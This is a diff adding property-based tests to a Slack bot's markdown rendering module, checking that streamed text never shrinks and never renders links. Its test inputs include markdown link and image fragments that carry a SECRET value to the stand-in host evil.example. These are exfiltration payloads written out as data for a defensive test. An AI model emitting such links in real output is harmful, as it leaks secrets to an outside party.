@@ -2,6 +2,7 @@
 
 import re
 from collections.abc import Sequence
+from itertools import pairwise
 
 import pytest
 from hypothesis import given
@@ -9,6 +10,7 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
+from bot.slack.render.growing import streamable
 from bot.slack.render.links import LinkGate
 from bot.slack.render.markdown import safe_markdown
 
@@ -147,3 +149,33 @@ def test_any_text_is_taken_and_its_words_are_kept(text):
     text = "".join(c for c in text if c.isalnum() or c == " ")
     written = safe_markdown(f"x{text}", GATE)
     assert "".join(text.split()) in "".join(written.split())
+
+
+GROWS = (
+    *("`", "``", "```\n", "```python\n", "~~~\n", "\n", " ", "word ", "    x = 1\n", "[a", "[1] ", "\\", "- ", "| "),
+    *(f"](https://evil.example/{SECRET}) ", f"https://evil.example/{SECRET} ", f"![i](evil.example/{SECRET}) "),
+)  # fmt: skip
+
+
+@given(st.lists(st.sampled_from(GROWS), max_size=20).map("".join))
+def test_text_that_grows_is_only_added_to_and_never_links(text: str) -> None:
+    """What a streamed message shows cannot be taken back; code and links are whole or not there."""
+    views = [streamable(text[:end]) for end in range(len(text) + 1)]
+    assert all(after.startswith(before) for before, after in pairwise(views))
+    assert links_in(views[-1]) == set()
+
+
+def test_code_is_shown_as_code_while_it_grows() -> None:
+    """With its indentation; a span as soon as it is closed, and a link as its words."""
+    told = "Run `make all` as in [the guide](https://x.example/g):\n```sh\nif x; then\n    y\n"
+    assert streamable(told) == (
+        "Run `make all` as in the guide (`x.example/g`):\n```sh\nif x; then\n    y\n"
+    )
+    assert streamable("Run `make ") == "Run "
+
+
+@pytest.mark.parametrize("name", ["Q3 deck.pdf", "sales.csv", "report.v2.final.xlsx"])
+def test_names_of_files_are_words(name: str) -> None:
+    """No host ends so, and Slack links none of them."""
+    assert GATE.mrkdwn(f"See {name}.") == f"See {name}."
+    assert "`" in GATE.mrkdwn(f"See {name}/{SECRET}")
